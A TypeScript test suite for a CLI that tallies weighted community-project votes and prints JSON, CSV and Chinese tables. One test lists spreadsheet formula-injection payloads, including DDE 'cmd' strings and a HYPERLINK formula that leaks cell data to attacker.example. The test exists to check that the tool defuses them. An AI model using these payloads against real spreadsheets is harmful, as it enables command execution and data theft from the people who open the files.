import { execFile } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { mkdtemp, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { promisify } from 'node:util';
import stringWidth from 'string-width';
import { describe, expect, it } from 'vitest';
import { spawnTimeout } from '../../../../vitest.shared.mjs';
import { main } from '../cli.js';
import type { CliIO } from '../io.js';

const fixture = (name: string) =>
  fileURLToPath(new URL(`../../test/fixtures/meeting/${name}`, import.meta.url));
const meeting = fixture('pilot-meeting.json');
const ballots = fixture('pilot-ballots.json');
const bin = fileURLToPath(new URL('../../dist/bin.js', import.meta.url));

/** RFC 4180 fields of CSV text (quoted fields, doubled quotes, LF or CRLF line ends). */
function readCsv(text: string): string[][] {
  const rows: string[][] = [];
  const field = /"((?:[^"]|"")*)"|([^,\r\n"]*)/y;
  let row: string[] = [];
  let i = 0;
  while (i < text.length) {
    field.lastIndex = i;
    const match = field.exec(text)!;
    row.push(match[1] !== undefined ? match[1].replaceAll('""', '"') : match[2]!);
    i = field.lastIndex;
    if (text[i] === ',') i++;
    else {
      i += text.startsWith('\r\n', i) ? 2 : 1;
      rows.push(row);
      row = [];
    }
  }
  return rows;
}

async function run(...argv: string[]) {
  let stdout = '';
  let stderr = '';
  const io: CliIO = { stdout: (t) => void (stdout += t), stderr: (t) => void (stderr += t) };
  const code = await main(argv, io);
  return { code, stdout, stderr };
}

describe('qingyuan tally', () => {
  it('prints the ranking as JSON in the documented shape', async () => {
    const { code, stdout } = await run('tally', meeting, ballots, '--format', 'json');
    expect(code).toBe(0);
    const result = JSON.parse(stdout);
    expect(
      result.ranking.map((r: { project: string; total: number }) => [r.project, r.total]),
    ).toEqual([
      ['jinhuali-home', 2.8],
      ['xinghuayuan-children', 2.4],
      ['yuhuayuan-culture', 1.3],
      ['jinhuiyuan-efamily', 0.3],
    ]);
    expect(result.counted).toBe(5);
    expect(result.rejected).toMatchObject([{ voter: 'v99', reasons: [{ rule: 'unknown-voter' }] }]);
  });

  it('prints an aligned table in Chinese, CJK counted as two columns', async () => {
    const { stdout } = await run('tally', meeting, ballots, '--lang', 'zh-CN');
    const lines = stdout.split('\n');
    expect(lines[0]).toMatch(/^排名\s+项目\s+公益性 ×0.4/);
    expect(lines[1]).toContain('新居民之家 (jinhuali-home)');
    const widths = lines.slice(0, 5).map((line) => stringWidth(line));
    expect(new Set(widths).size).toBe(1); // every row ends in the right-aligned total column
    expect(stdout).toContain('#6 v99: voter: 未知投票人"v99"');
  });

  it('prints CSV with exact totals', async () => {
    const { stdout } = await run('tally', meeting, ballots, '--format', 'csv');
    expect(stdout.split('\n')[1]).toBe(
      "1,jinhuali-home,New Residents' Home,2.8,14/5,false,4,1.6,2,0.6,2,0.6",
    );
  });

  it('defuses project titles that a spreadsheet would run as formulas', async () => {
    const payloads = [
      "=cmd|' /C calc'!A0",
      "+cmd|' /C calc'!A0",
      "-2+3+cmd|' /C calc'!A0",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
      ' =1+1',
      '\t=1+1',
      '＝1+1',
    ];
    const pilot = JSON.parse(readFileSync(meeting, 'utf8')) as {
      projects: { id: string; title: unknown }[];
    };
    const dir = await mkdtemp(join(tmpdir(), 'qy-tally-csv-'));
    const rows: string[][] = [];
    for (let i = 0; i < payloads.length; i += pilot.projects.length) {
      const titles = payloads.slice(i, i + pilot.projects.length);
      const file = join(dir, `formula-titles-${i}.json`);
      const projects = pilot.projects.map((p, j) => ({ ...p, title: titles[j] ?? 'plain' }));
      await writeFile(file, JSON.stringify({ ...pilot, projects }));
      const { code, stdout } = await run('tally', file, ballots, '--format', 'csv');
      expect(code).toBe(0);
      rows.push(...readCsv(stdout).slice(1));
    }
    const written = rows.map((row) => row[2]!).filter((title) => title !== 'plain');
    expect(written.sort()).toEqual(payloads.map((p) => `'${p}`).sort());
  });

  it('names the file, the JSON path and what was expected for a bad meeting', async () => {
    const { code, stderr } = await run('tally', fixture('bad-weight-meeting.json'), ballots);
    expect(code).toBe(2);
    expect(stderr).toMatch(
      /bad-weight-meeting\.json: criteria\[1\]\.weight: Expected a number greater than 0\n$/,
    );
    expect(stderr.split('\n')).toHaveLength(2);
  });

  it('names the line and column of invalid JSON, and a missing file', async () => {
    const dir = await mkdtemp(join(tmpdir(), 'qy-tally-'));
    const file = join(dir, 'invalid-json-meeting.json');
    // an unquoted key on line 4
    await writeFile(
      file,
      '{\n  "id": "x",\n  "criteria": [\n    { "id": "x", weight: 1 }\n  ]\n}\n',
    );
    const invalid = await run('tally', file, ballots);
    expect(invalid.code).toBe(2);
    expect(invalid.stderr).toContain(
      'invalid-json-meeting.json: invalid JSON at line 4, column 18',
    );
    const missing = await run('tally', 'nowhere.json', ballots);
    expect(missing.stderr).toBe('qingyuan: nowhere.json: no such file\n');
    const notList = await run('tally', meeting, fixture('not-a-list-ballots.json'));
    expect(notList.stderr).toContain('expected an array of ballots');
  });

  it('rejects a bad flag value and shows help', async () => {
    expect((await run('tally', meeting, ballots, '--format', 'xml')).code).toBe(2);
    expect((await run('tally', meeting, ballots, '--lang', 'fr')).stderr).toContain('--lang');
    const help = await run('tally', '--help');
    expect(help.code).toBe(0);
    expect(help.stdout).toContain('Usage: qingyuan tally');
  });

  it('runs as the built bin, end to end', { timeout: spawnTimeout }, async () => {
    const { stdout } = await promisify(execFile)('node', [
      bin,
      'tally',
      meeting,
      ballots,
      '--format',
      'json',
    ]);
    expect(JSON.parse(stdout).ranking[0].project).toBe('jinhuali-home');
    const failure = await promisify(execFile)('node', [
      bin,
      'tally',
      fixture('bad-weight-meeting.json'),
      ballots,
    ]).catch((error: { code: number; stderr: string }) => error);
    expect(failure).toMatchObject({ code: 2 });
    expect((failure as { stderr: string }).stderr).not.toContain('    at ');
  });
});
